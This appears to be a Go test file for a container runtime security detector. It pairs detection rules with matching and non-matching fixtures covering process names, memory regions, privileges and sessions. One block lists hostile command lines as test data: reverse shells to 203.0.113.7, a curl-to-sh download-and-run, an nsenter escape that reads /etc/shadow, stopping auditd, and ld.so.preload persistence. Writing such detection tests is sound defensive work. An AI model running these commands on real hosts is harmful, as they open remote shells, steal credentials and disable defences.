package findings_test

import (
	"time"

	"github.com/nodelens/nodelens/cos"
	"github.com/nodelens/nodelens/linux"
	"github.com/nodelens/nodelens/linux/memory"
	"github.com/nodelens/nodelens/vmem"
)

func nothing(fixture) {}

var processExamples = map[string]example{
	"process-kernel-name": {subject: ofServer,
		hit: func(f fixture) { f.process(pidServer).Comm = "kworker/0:1" },
		// A helper that the kernel starts has the name of the thread until its program runs.
		miss: func(f fixture) { f.start(70, 2, "kworker/u4:2", "") }},
	"process-kernel-thread-user": {subject: "node PID 30",
		hit:  func(f fixture) { f.open(30, 3, "socket:[17]") },
		miss: func(f fixture) { f.open(pidServer, 3, "socket:[17]") }},
	"process-system-name": {subject: ofHost,
		hit:  func(f fixture) { p := f.process(pidHost); p.Args, p.Exe = []string{"/usr/sbin/crond"}, "/opt/x/update" },
		miss: func(f fixture) { f.start(70, 1, "systemd-udevd", "/usr/bin/udevadm", "/lib/systemd/systemd-udevd") }},
	"process-three-names": {subject: ofServer,
		hit: func(f fixture) {
			p := f.process(pidServer)
			p.Comm, p.Args, p.Exe = "alpha", []string{"beta"}, "/bin/gamma"
		},
		miss: func(f fixture) {
			p := f.process(pidServer)
			p.Comm, p.Args, p.Exe = "worker", []string{"sleep", "5"}, "/bin/busybox"
		}},
	"process-unprintable-name": {subject: ofServer,
		hit:  func(f fixture) { f.process(pidServer).Comm = "ng\u202einx" },
		miss: func(f fixture) { f.process(pidServer).Comm = "caf\u00e9" }},
	"process-hidden": {subject: ofServer,
		hit: func(f fixture) { f.process(pidServer).Sources = linux.InPIDIDR },
		// In one view only says nothing where the other is not whole.
		miss: func(f fixture) {
			f.process(pidServer).Sources = linux.InPIDIDR
			f.Gaps = []vmem.Gap{{Object: "task list", Err: vmem.ErrNotCaptured}}
		}},
	"process-start-time": {subject: ofWorker,
		hit:  func(f fixture) { f.process(pidWorker).StartTime = f.process(pidServer).StartTime.Add(-time.Minute) },
		miss: func(f fixture) { f.process(pidWorker).StartTime = f.process(pidServer).StartTime }},
	"process-memfd-program": {subject: ofServer,
		hit: func(f fixture) { f.gone("tmpfs", "/memfd:update (deleted)", pidServer, "exe") },
		miss: func(f fixture) { // runc starts a container from a sealed copy of itself
			p := f.start(70, 50, "runc:[2:INIT]", "/memfd:runc_cloned:/proc/self/exe (deleted)", "runc", "init")
			p.StartTime = imaged.Add(-time.Second)
			f.gone("tmpfs", p.Exe, 70, "exe")
		}},
	"process-deleted-program": {subject: ofServer,
		hit: func(f fixture) { f.gone("overlay", "/usr/sbin/nginx (deleted)", pidServer, "exe") },
		// A name that ends in (deleted) is a name.
		miss: func(f fixture) { f.process(pidServer).Exe = "/usr/sbin/nginx (deleted)" }},
	"process-detached-gone": {subject: ofNew,
		hit: func(f fixture) {
			f.in(200, 50, "x", "/tmp/x (deleted)", "x")
			f.gone("overlay", "/tmp/x (deleted)", 200, "exe")
			for i := range 3 {
				f.open(200, i, "/dev/null")
			}
		},
		miss: func(f fixture) {
			f.in(200, 50, "x", "/tmp/x (deleted)", "x")
			f.gone("overlay", "/tmp/x (deleted)", 200, "exe")
			f.open(200, 0, "/dev/null")
			f.open(200, 1, "pipe:[5]")
		}},
	"process-temporary-program": {subject: ofServer,
		hit:  func(f fixture) { f.process(pidServer).Exe = "/dev/shm/x" },
		miss: func(f fixture) { f.process(pidServer).Exe = "/tmpl/x" }},
	"process-hidden-directory-program": {subject: ofServer,
		hit:  func(f fixture) { f.process(pidServer).Exe = "/usr/.../x" },
		miss: func(f fixture) { f.process(pidServer).Exe = "/root/.cargo/bin/x" }},
	"process-node-component-path": {subject: "node PID 40",
		hit:  func(f fixture) { f.process(40).Exe = "/root/containerd" },
		miss: func(f fixture) { f.process(40).Exe = "/home/kubernetes/bin/containerd" }},
}

func suspicious(kind memory.Kind, level memory.Level, pid int32, path string) func(fixture) {
	return func(f fixture) {
		f.Memory = append(f.Memory, cos.SuspiciousMemory{Finding: memory.Finding{Kind: kind, Level: level, PID: pid, Why: "why", Address: 0x7f0000000000, Size: 4096, Flags: "rwxp", Path: path}, PodUID: podUID, ContainerID: containerID})
	}
}

var codeExamples = map[string]example{
	"code-writable":       {subject: ofServer, hit: suspicious(memory.WritableCode, memory.High, pidServer, ""), miss: suspicious(memory.WritableCode, memory.Low, pidServer, "")}, // of a JIT compiler
	"code-anonymous":      {subject: ofServer, hit: suspicious(memory.AnonymousCode, memory.Medium, pidServer, ""), miss: suspicious(memory.AnonymousCode, memory.Low, pidServer, "")},
	"code-gone-file":      {subject: ofServer, hit: suspicious(memory.GoneCode, memory.High, pidServer, "/tmp/x.so (deleted)"), miss: suspicious(memory.GoneCode, memory.High, pidServer, "/usr/sbin/nginx")}, // the program itself
	"code-changed":        {subject: ofServer, hit: suspicious(memory.ChangedCode, memory.High, pidServer, "/lib/libc.so.6"), miss: suspicious(memory.GoneProgram, memory.High, pidServer, "")},
	"code-hidden-program": {subject: ofServer, hit: suspicious(memory.HiddenProgram, memory.High, pidServer, ""), miss: suspicious(memory.WritableCode, memory.High, pidServer, "")},
	"code-stray-thread":   {subject: ofServer, hit: suspicious(memory.StrayThread, memory.High, pidServer, ""), miss: suspicious(memory.StrayThread, memory.Low, pidServer, "")},
}

// argumentExamples are command lines: those that a rule is for, and those that only look so.
func argumentExamples() map[string]example {
	all := map[string]example{}
	for id, lines := range map[string][2][][]string{
		"process-reverse-shell-arguments": {{{"bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"}, {"nc", "203.0.113.7", "443", "-e", "/bin/sh"}}, {{"/bin/nc", "-ll", "-p", "6379", "-e", "/bin/cat"}}},
		"process-download-and-run":        {{{"sh", "-c", "curl -s http://203.0.113.7/x | sh"}, {"sh", "-c", "echo ZWNobwo= | base64 -d | bash"}}, {{"sh", "-c", "curl -s http://example.invalid/ready; sleep 5"}}},
		"process-escape-arguments":        {{{"nsenter", "-t", "1", "-m", "--", "sh"}, {"cat", "/proc/1/root/etc/shadow"}}, {{"nsenter", "-t", "4711", "-n", "ip", "a"}}},
		"process-module-loading":          {{{"/sbin/insmod", "/tmp/x.ko"}}, {{"lsmod"}}},
		"process-miner-arguments":         {{{"x", "-o", "stratum+tcp://pool.example.invalid:3333"}}, {{"x", "-o", "tcp://queue.example.invalid:3333"}}},
		"process-defence-arguments":       {{{"sh", "-c", "systemctl stop auditd"}, {"iptables", "-F"}}, {{"systemctl", "status", "auditd"}}},
		"process-persistence-arguments":   {{{"sh", "-c", "echo /x.so > /etc/ld.so.preload"}}, {{"cat", "/etc/ld.so.conf"}}},
		"process-attack-tool":             {{{"/tmp/peirates"}, {"nmap", "-sS", "10.0.0.0/8"}}, {{"vim", "nmap.txt"}}},
		"process-network-tool":            {{{"/bin/nc", "-ll", "-p", "6379"}}, {{"/bin/ncd"}}},
		"process-miner-name":              {{{"./xmrig-6.21", "-c", "x.json"}}, {{"less", "xmrig.md"}}},
		"process-ssh-server":              {{{"/usr/sbin/sshd", "-D"}}, {{"/usr/bin/ssh", "host"}}},
	} {
		run := func(lines [][]string) func(f fixture) {
			return func(f fixture) {
				for _, args := range lines {
					f.process(pidServer).Args = args
				}
			}
		}
		all[id] = example{subject: ofServer, hit: run(lines[0]), miss: run(lines[1])}
	}
	return all
}

var sessionExamples = map[string]example{
	"process-shell-socket": {subject: ofNew,
		hit: func(f fixture) {
			f.in(200, pidServer, "sh", "/bin/busybox", "sh")
			f.connect(200, 0, "203.0.113.7", 443)
		},
		miss: func(f fixture) { // a shell with a connection that is not its input
			f.in(200, pidServer, "sh", "/bin/busybox", "sh")
			f.connect(200, 5, "203.0.113.7", 443)
		}},
	"process-shell-relay": {subject: ofNew,
		hit: func(f fixture) {
			f.in(200, pidWorker, "sh", "/bin/sh", "sh")
			for fd, pipe := range []string{"pipe:[7]", "pipe:[8]"} {
				f.open(200, fd, pipe)
				f.open(pidWorker, 10+fd, pipe)
			}
			f.connect(pidWorker, 5, "203.0.113.7", 443)
		},
		miss: func(f fixture) { // who has the other ends is connected to nobody
			f.in(200, pidWorker, "sh", "/bin/sh", "sh")
			for fd, pipe := range []string{"pipe:[7]", "pipe:[8]"} {
				f.open(200, fd, pipe)
				f.open(pidWorker, 10+fd, pipe)
			}
		}},
	"process-shell-under-server": {subject: ofNew,
		hit:  func(f fixture) { f.in(200, pidWorker, "sh", "/bin/dash", "sh", "-c", "id") },
		miss: func(f fixture) { f.in(200, pidWorker, "convert", "/usr/bin/convert", "convert") }},
	"process-exec-shell": {subject: ofNew,
		hit:  func(f fixture) { f.in(200, 50, "bash", "/bin/bash", "bash"); f.open(200, 0, "/dev/pts/0") },
		miss: func(f fixture) { f.in(200, pidServer, "bash", "/bin/bash", "bash") }},
	"process-exec": {subject: ofNew,
		hit:  func(f fixture) { f.in(200, 50, "top", "/usr/bin/top", "top") },
		miss: func(f fixture) { f.in(200, 50, "probe", "/bin/probe", "probe").StartTime = imaged.Add(-time.Second) }},
	"process-traced": {subject: ofServer,
		hit:  func(f fixture) { f.process(pidServer).State = linux.TracingStop },
		miss: func(f fixture) { f.process(pidServer).State = linux.Stopped }},
	"process-foreign-memory": {subject: ofServer,
		hit:  func(f fixture) { f.open(pidServer, 5, "/proc/1/mem") },
		miss: func(f fixture) { f.open(pidServer, 5, "/proc/101/mem") }},
	"process-namespace-differs": {subject: ofWorker,
		hit:  func(f fixture) { f.process(pidWorker).Namespaces.Net = 77 },
		miss: func(f fixture) { f.process(pidWorker).Namespaces.Net = 0 }}, // not known
	"process-node-namespaces": {subject: ofWorker,
		hit:  func(f fixture) { f.process(pidWorker).Namespaces.Mnt = 1 },
		miss: func(f fixture) { f.process(pidWorker).Namespaces.Mnt = 21 }},
	"process-entered-container": {subject: ofHost,
		hit: func(f fixture) { f.process(pidHost).Namespaces.Mnt = 20 },
		miss: func(f fixture) { // a runtime at its work
			p := f.start(70, 50, "runc:[1:CHILD]", "/usr/bin/runc", "runc", "init")
			p.StartTime, p.Namespaces.Mnt = imaged.Add(-time.Second), 20
		}},
}

var rightsExamples = map[string]example{
	"process-capabilities-gained": {subject: ofWorker,
		hit: func(f fixture) { f.rights(pidWorker).Effective |= 1 << 21 },
		miss: func(f fixture) { // root of a user namespace of its own
			f.rights(pidWorker).Effective |= 1 << 21
			f.rights(pidWorker).Credentials.UserNamespace = 8
		}},
	"process-seccomp-lost": {subject: ofWorker,
		hit:  func(f fixture) { f.rights(pidWorker).Seccomp.Mode = "off" },
		miss: func(f fixture) { f.rights(pidServer).Seccomp.Mode, f.rights(pidWorker).Seccomp.Mode = "off", "off" }},
	"process-apparmor-lost": {subject: ofWorker,
		hit: func(f fixture) { f.rights(pidWorker).AppArmor.Mode = "unconfined" },
		miss: func(f fixture) {
			f.rights(pidServer).AppArmor.Mode, f.rights(pidWorker).AppArmor.Mode = "unconfined", "unconfined"
		}},
	"process-privileges-regained": {subject: ofWorker,
		hit:  func(f fixture) { f.rights(pidWorker).NoNewPrivs = false },
		miss: func(f fixture) { f.rights(pidServer).NoNewPrivs = false }},
	"process-shared-credentials": {subject: ofWorker,
		hit: func(f fixture) { f.rights(pidWorker).Address = f.rights(1).Address },
		miss: func(f fixture) {
			f.rights(pidServer).Address, f.rights(pidWorker).Address = 0, 0
		}},
	"process-thread-rights-differ": {subject: ofServer,
		hit: func(f fixture) {
			s := f.rights(pidServer)
			thread := s.Security
			s.UID, s.EUID, s.SUID, thread.EUID = 5, 5, 5, 0
			s.Threads = []cos.ThreadSecurity{{TID: 111, Security: thread}}
		},
		miss: func(f fixture) {
			s := f.rights(pidServer)
			thread := s.Security
			thread.Seccomp.Mode = "strict"
			s.Threads = []cos.ThreadSecurity{{TID: 111, Security: thread}}
		}},
	"process-root-by-login": {subject: ofHost,
		hit: func(f fixture) {
			uid := uint32(1000)
			f.process(pidHost).Exe = "/usr/bin/id"
			f.rights(pidHost).LoginUID = &uid
		},
		miss: func(f fixture) {
			uid := uint32(1000)
			f.rights(pidHost).LoginUID, f.rights(pidHost).EUID = &uid, 1000
		}},
	"process-setuid-in-container": {subject: ofServer,
		hit:  func(f fixture) { f.rights(pidServer).UID = 1000 },
		miss: func(f fixture) { f.rights(pidHost).UID = 1000 }},
	"process-ambient-capabilities": {subject: ofServer,
		hit:  func(f fixture) { f.rights(pidServer).Ambient = 1 << 10 },
		miss: func(f fixture) { f.rights(pidHost).Ambient = 1 << 10 }},
	"process-user-namespace": {subject: ofWorker,
		hit: func(f fixture) { ns := f.rights(pidWorker).UserNamespace; ns.Address, ns.Level = 8, 1 },
		miss: func(f fixture) {
			for _, pid := range []int32{pidServer, pidWorker} { // the whole container is in one
				ns := f.rights(pid).UserNamespace
				ns.Address, ns.Level = 8, 1
			}
		}},
	"process-no-randomization": {subject: ofServer,
		hit:  func(f fixture) { f.rights(pidServer).Personality = 0x0040000 },
		miss: func(f fixture) { f.rights(pidServer).Personality = 0x0008 }},
}

// variables sets the environment of the container's first process. A value of nil is hidden.
func variables(name string, length int, value *string) func(fixture) {
	return func(f fixture) { f.process(pidServer).Env = []cos.Secret{{Name: name, Length: length, Value: value}} }
}

var environmentExamples = map[string]example{
	"process-preload":     {subject: ofServer, hit: variables("LD_PRELOAD", 9, nil), miss: variables("LD_LIBRARY_PATH", 9, nil)},
	"process-history-off": {subject: ofServer, hit: variables("HISTFILE", 9, new("/dev/null")), miss: variables("HISTFILE", 19, new("/root/.bash_history"))},
}
